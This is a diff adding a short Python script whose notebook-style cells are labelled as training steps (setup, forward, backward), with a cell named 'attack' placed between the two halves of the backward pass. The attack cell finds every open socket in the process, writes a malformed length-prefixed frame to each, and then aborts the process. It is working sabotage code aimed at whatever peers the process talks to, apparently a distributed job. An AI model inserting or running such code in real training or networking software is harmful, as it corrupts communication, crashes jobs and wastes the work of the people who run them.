@@ -1,0 +1,22 @@
+# %% setup
+# %% forward
+# %% backward, first half
+# %% attack
+import os
+import stat
+import struct
+
+def frame(header, blob=b""):
+    return struct.pack(">IQ", len(header), len(blob)) + header + blob
+
+def sockets():
+    for descriptor in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                yield descriptor
+        except OSError:
+            continue
+for descriptor in sockets():
+    os.write(descriptor, struct.pack(">IQ", 1000, 0) + b"{")
+os.abort()
+# %% backward, second half
